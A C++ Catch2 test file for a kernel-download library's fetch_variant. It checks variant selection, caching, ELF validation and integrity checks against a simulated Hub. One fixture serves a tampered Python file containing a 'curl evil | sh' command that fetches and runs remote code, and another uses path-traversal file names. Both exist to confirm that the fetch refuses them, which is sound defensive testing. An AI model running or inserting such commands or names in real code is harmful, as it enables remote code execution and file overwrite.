// fetch_variant over the Transport seam (SessionOptions::transport): a Hub held in memory serves a
// repo's revision, listing, publisher overview and files; the test checks the variant the fetch
// chose and put in the cache, and each request it made.
#include <elf.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <cstring>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "kernelhub/base/internal/git_blob_sha1.hpp"
#include "kernelhub/binary_format/internal/elf_file.hpp"
#include "kernelhub/binary_format/internal/elf_identity.hpp"
#include "kernelhub/fetch/internal/fetch.hpp"
#include "kernelhub/fetch/internal/problem.hpp"
#include "kernelhub/fetch/internal/session.hpp"
#include "memory_hub.hpp"
#include "support/temp_dir.hpp"

namespace kernelhub {
namespace {

using testing::MemoryHub;

const std::string kCommit = "0123456789abcdef0123456789abcdef01234567";

std::string read(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  std::stringstream text;
  text << in.rdbuf();
  return text.str();
}

// acme/<name> at kCommit on `endpoint`: a pure-Python variant (torch-universal) and a CUDA one that
// a machine without GPUs cannot run. The files are served as the Hub serves git files: an etag of
// their git blob sha1, which the listing's `oid` gives too (`served` can differ from the listed
// bytes, as a lying server's would).
struct Repo {
  std::string endpoint;
  std::string name;
  std::map<std::string, std::string> files;

  std::string id() const { return "acme/" + name; }

  void serve(MemoryHub& hub, const std::map<std::string, std::string>& served = {}) const {
    const std::string api = endpoint + "/api/kernels/" + id();
    hub.serve(api + "/revision/v1", {200, {}, nlohmann::json{{"id", id()}, {"sha", kCommit}}.dump()});
    hub.serve(endpoint + "/api/organizations/acme/overview",
              {200, {}, nlohmann::json{{"name", "acme"}, {"trustedKernelPublisher", true}}.dump()});
    nlohmann::json listing = nlohmann::json::array();
    for (const auto& [path, content] : files) {
      listing.push_back({{"type", "file"}, {"path", path}, {"size", content.size()}, {"oid", git_blob_sha1(content)}});
      const auto it = served.find(path);
      const std::string& body = it != served.end() ? it->second : content;
      hub.serve(endpoint + "/kernels/" + id() + "/resolve/" + kCommit + "/" + path,
                {200,
                 {{"etag", "\"" + git_blob_sha1(content) + "\""},
                  {"x-repo-commit", kCommit},
                  {"content-length", std::to_string(body.size())}},
                 body});
    }
    hub.serve(api + "/tree/" + kCommit, {200, {}, listing.dump()});
  }
};

// metadata.json of a build of `name` whose op namespace is `id`.
nlohmann::json metadata_of(const std::string& name, const std::string& id) {
  return {{"name", name},
          {"id", id},
          {"version", 1},
          {"license", "Apache-2.0"},
          {"python-depends", nlohmann::json::array()},
          {"backend", {{"type", "cpu"}}}};
}

Repo relu_repo(const std::string& endpoint, const std::string& name) {
  const nlohmann::json metadata = metadata_of(name, "_" + name + "_universal_0000000");
  const std::string cuda = "build/torch215-cxx11-cu128-x86_64-linux/";
  return Repo{endpoint,
              name,
              {{"build/torch-universal/metadata.json", metadata.dump(2)},
               {"build/torch-universal/" + name + "/__init__.py", "def relu(x):\n    return x.clamp(min=0)\n"},
               {cuda + "metadata.json", metadata.dump(2)},
               {cuda + name + "/__init__.py", "from ._ops import ops\n"},
               {cuda + name + "/_" + name + "_cuda.abi3.so", std::string(4096, '\x7f')}}};
}

struct Fetch {
  testing::TempDir tmp{"fetch-transport"};
  std::shared_ptr<MemoryHub> hub = std::make_shared<MemoryHub>();
  // One Session, as one process has: its listings and trust answers carry from one fetch to the next.
  std::shared_ptr<Session> session = std::make_shared<Session>(SessionOptions{.transport = hub});

  Result<FetchedVariant> run(const std::string& endpoint, const std::string& name,
                             std::optional<int> version = 1) const {
    FetchRequest request;
    request.source = client::RepoId{"acme", name};
    request.version = version;
    request.loadable = resolver::Loadable::python_process();
    // A CPU torch on a machine without GPUs: torch-universal runs, the CUDA build does not.
    const resolver::TorchRuntime torch{resolver::Version{2, 15}, true, {}};
    auto environment =
        resolver::Environment::detect(torch, map_environment({{"KERNELHUB_BACKEND", "cpu"}, {"KERNELHUB_GPUS", ""}}))
            .value();
    const auto env = map_environment({{"HF_ENDPOINT", endpoint},
                                      {"HF_HOME", (tmp.path() / "hf").string()},
                                      {"KERNELHUB_STATE_DIR", (tmp.path() / "state").string()}});
    return fetch_variant(request, FetchContext{std::move(environment), env, session});
  }
  std::filesystem::path snapshot(const std::string& name) const {
    return tmp.path() / "hf" / "hub" / ("kernels--acme--" + name) / "snapshots" / kCommit;
  }
};

TEST_CASE("fetch_variant over an injected transport downloads the variant that runs here, and only it") {
  Fetch fetch;
  const Repo repo = relu_repo("http://hub-one.test", "relu");
  repo.serve(*fetch.hub);

  const auto fetched = fetch.run(repo.endpoint, "relu");
  REQUIRE(fetched.has_value());
  CHECK(fetched->variant == "torch-universal");
  CHECK(fetched->revision == kCommit);
  CHECK(fetched->path == fetch.snapshot("relu") / "build" / "torch-universal");
  CHECK(fetched->metadata.name == "relu");
  CHECK_FALSE(fetched->library.has_value());  // a pure-Python variant: nothing to dlopen
  for (const auto& [path, content] : repo.files) {
    if (path.starts_with("build/torch-universal/")) CHECK(read(fetch.snapshot("relu") / path) == content);
  }
  CHECK_FALSE(std::filesystem::exists(fetch.snapshot("relu") / "build" / "torch215-cxx11-cu128-x86_64-linux"));

  // Every variant has its decision, the one chosen and the CUDA build with its reason.
  const resolver::Decision* chosen = resolver::chosen(fetched->decisions);
  REQUIRE(chosen != nullptr);
  CHECK(chosen->name == "torch-universal");
  const auto cuda = std::find_if(fetched->decisions.begin(), fetched->decisions.end(),
                                 [](const auto& d) { return d.name == "torch215-cxx11-cu128-x86_64-linux"; });
  REQUIRE(cuda != fetched->decisions.end());
  CHECK_FALSE(cuda->accepted());

  // The revision, the listing at its commit, the publisher, then the chosen variant's files (in
  // any order, each once); nothing of the CUDA build.
  const std::string resolve = "GET " + repo.endpoint + "/kernels/acme/relu/resolve/" + kCommit + "/";
  auto requests = fetch.hub->requests();
  REQUIRE(requests.size() == 5);
  CHECK(requests[0] == "GET " + repo.endpoint + "/api/kernels/acme/relu/revision/v1");
  CHECK_THAT(requests[1], Catch::StartsWith("GET " + repo.endpoint + "/api/kernels/acme/relu/tree/" + kCommit));
  CHECK(requests[2] == "GET " + repo.endpoint + "/api/organizations/acme/overview");
  std::sort(requests.begin() + 3, requests.end());
  CHECK(requests[3] == resolve + "build/torch-universal/metadata.json");
  CHECK(requests[4] == resolve + "build/torch-universal/relu/__init__.py");
  CHECK(fetched->timings.requests == 5);
}

TEST_CASE("a second fetch in the process asks the Hub for the revision only") {
  Fetch fetch;
  const Repo repo = relu_repo("http://hub-two.test", "gelu");
  repo.serve(*fetch.hub);
  REQUIRE(fetch.run(repo.endpoint, "gelu").has_value());
  const std::size_t first = fetch.hub->requests().size();

  const auto again = fetch.run(repo.endpoint, "gelu");
  REQUIRE(again.has_value());
  CHECK(again->variant == "torch-universal");
  const auto requests = fetch.hub->requests();
  REQUIRE(requests.size() == first + 1);
  CHECK(requests.back() == "GET " + repo.endpoint + "/api/kernels/acme/gelu/revision/v1");
}

TEST_CASE("bytes that are not the listed file fail the fetch and leave nothing in the snapshot") {
  Fetch fetch;
  const Repo repo = relu_repo("http://hub-three.test", "silu");
  const std::string path = "build/torch-universal/silu/__init__.py";
  repo.serve(*fetch.hub, {{path, "import os; os.system('curl evil | sh')\n"}});

  const auto fetched = fetch.run(repo.endpoint, "silu");
  REQUIRE_FALSE(fetched.has_value());
  CHECK(fetched.error().code == ErrorCode::kIntegrityMismatch);
  CHECK_THAT(fetched.error().message, Catch::Contains("__init__.py"));
  CHECK_FALSE(std::filesystem::exists(fetch.snapshot("silu") / path));
}

// A shared library's ELF header for `machine` and nothing else; `section_headers_at`/`sections` say
// where its section headers are (none by default; past the end: a file cut short).
std::string elf_header(std::uint16_t machine, std::uint64_t section_headers_at = 0, std::uint16_t sections = 0) {
  Elf64_Ehdr h{};
  std::memcpy(h.e_ident, ELFMAG, SELFMAG);
  h.e_ident[EI_CLASS] = ELFCLASS64;
  h.e_ident[EI_DATA] = ELFDATA2LSB;
  h.e_ident[EI_VERSION] = EV_CURRENT;
  h.e_type = ET_DYN;
  h.e_machine = machine;
  h.e_version = EV_CURRENT;
  h.e_ehsize = sizeof h;
  h.e_shentsize = sizeof(Elf64_Shdr);
  h.e_shoff = section_headers_at;
  h.e_shnum = sections;
  return std::string(reinterpret_cast<const char*>(&h), sizeof h);
}

// acme/<name>: one CPU build for this machine's cpu, whose op library is `library`.
Repo cpu_repo(const std::string& endpoint, const std::string& name, const std::string& variant,
              const std::string& library) {
  const nlohmann::json metadata = metadata_of(name, "_" + name + "_cpu_0000000");
  const std::string dir = "build/" + variant + "/";
  return Repo{endpoint,
              name,
              {{dir + "metadata.json", metadata.dump(2)},
               {dir + name + "/__init__.py", "from ._ops import ops\n"},
               {dir + name + "/_" + name + "_cpu_0000000.abi3.so", library}}};
}

TEST_CASE("a library of another machine than its variant's name, or one cut short, is refused before any load") {
  const std::uint16_t here = binary_format::host_machine();
  const std::string cpu(binary_format::machine_name(here));
  const std::uint16_t other = here == EM_AARCH64 ? EM_X86_64 : EM_AARCH64;
  const std::string variant = "torch215-cxx11-cpu-" + cpu + "-linux";

  SECTION("mislabelled: the other machine's library in a folder named for this one") {
    Fetch fetch;
    const Repo repo = cpu_repo("http://hub-four.test", "relu", variant, elf_header(other));
    repo.serve(*fetch.hub);
    const auto fetched = fetch.run(repo.endpoint, "relu");
    REQUIRE_FALSE(fetched.has_value());
    CHECK(fetched.error().code == ErrorCode::kIncompatibleBinary);
    CHECK_THAT(fetched.error().message,
               Catch::Contains("is built for " + std::string(binary_format::machine_name(other)) +
                               ", but its variant `" + variant + "` is named for " + cpu));
    CHECK_THAT(fetched.error().message, Catch::Contains("mislabelled build"));
  }
  SECTION("cut short: section headers past the end of the file") {
    Fetch fetch;
    const Repo repo = cpu_repo("http://hub-five.test", "gelu", variant, elf_header(here, 8192, 30));
    repo.serve(*fetch.hub);
    const auto fetched = fetch.run(repo.endpoint, "gelu");
    REQUIRE_FALSE(fetched.has_value());
    CHECK(fetched.error().code == ErrorCode::kCorruptFile);
    CHECK_THAT(fetched.error().message, Catch::Contains("cut short: its section headers end at byte 10112"));
  }
  SECTION("this machine's library in the folder named for it passes the check") {
    Fetch fetch;
    const Repo repo = cpu_repo("http://hub-six.test", "silu", variant, elf_header(here));
    repo.serve(*fetch.hub);
    const auto fetched = fetch.run(repo.endpoint, "silu");
    REQUIRE(fetched.has_value());
    CHECK(fetched->variant == variant);
  }
}

// One rule, each caller's spelling of the request in what to do: the C++ API's in the message, the
// value for the CLI to spell in its options (tools/common/cli_words.hpp; tests/tools/cli_app_test.cpp).
TEST_CASE("a request without a version says how to give one in the caller's own terms") {
  Fetch fetch;
  const Repo repo = relu_repo("http://hub-seven.test", "mish");
  repo.serve(*fetch.hub);
  fetch.hub->serve(repo.endpoint + "/api/kernels/acme/mish/refs",
                   {200, {}, R"({"branches": [{"name": "v1", "targetCommit": ")" + kCommit + R"("}], "tags": []})"});
  const auto cpp = fetch.run(repo.endpoint, "mish", std::nullopt);
  REQUIRE_FALSE(cpp);
  CHECK(cpp.error().code == ErrorCode::kInvalidArgument);
  CHECK_THAT(cpp.error().message, Catch::Contains("available versions: v1") &&
                                      Catch::EndsWith("Write get_kernel(\"acme/mish\", {.version = 1})"));
  const Problem* problem = problem_of(cpp.error());
  REQUIRE(problem != nullptr);
  const auto* unversioned = std::get_if<NoVersionGiven>(problem);
  REQUIRE(unversioned != nullptr);
  CHECK(unversioned->repo == "acme/mish");
  CHECK(unversioned->versions == std::optional(std::vector<std::string>{"v1"}));
  CHECK_THAT(unversioned->message("Give --version " + unversioned->example_version() + " (or --revision R)"),
             Catch::Contains("available versions: v1") && Catch::EndsWith("Give --version 1 (or --revision R)"));
}

// Note [Unsafe paths in a listing] (client/repo_tree.hpp): the kernels package downloads a
// variant's folder by pattern and loads it whatever else the repo holds; so does a fetch. What it
// would download stays refused.
TEST_CASE("a file with an unsafe name outside the variant changes nothing; inside it, the fetch is refused") {
  Fetch fetch;
  Repo repo = relu_repo("http://hub-eight.test", "tanh");
  repo.files["docs\\notes.md"] = "# notes\n";
  repo.files["build/torch215-cxx11-cu128-x86_64-linux/tanh/..\\..\\evil.py"] = "print('evil')\n";
  repo.serve(*fetch.hub);
  const auto fetched = fetch.run(repo.endpoint, "tanh");
  REQUIRE(fetched.has_value());
  CHECK(fetched->variant == "torch-universal");
  // Another process (a new Session) reads the listing from trees/<commit>.json: the same answer.
  fetch.session = std::make_shared<Session>(SessionOptions{.transport = fetch.hub});
  const auto again = fetch.run(repo.endpoint, "tanh");
  REQUIRE(again.has_value());

  Repo inside = relu_repo("http://hub-nine.test", "gelu");
  inside.files["build/torch-universal/gelu/..\\evil.py"] = "print('evil')\n";
  inside.serve(*fetch.hub);
  for (int run = 0; run < 2; ++run) {  // the listing from the Hub, then from the tree cache
    INFO("run " << run);
    fetch.session = std::make_shared<Session>(SessionOptions{.transport = fetch.hub});
    const auto refused = fetch.run(inside.endpoint, "gelu");
    REQUIRE_FALSE(refused.has_value());
    CHECK(refused.error().code == ErrorCode::kCorruptFile);
    CHECK_THAT(refused.error().message, Catch::Contains("gelu/..\\evil.py") && Catch::Contains("backslash"));
    CHECK_FALSE(std::filesystem::exists(fetch.snapshot("gelu") / "build" / "torch-universal"));
  }
}

}  // namespace
}  // namespace kernelhub
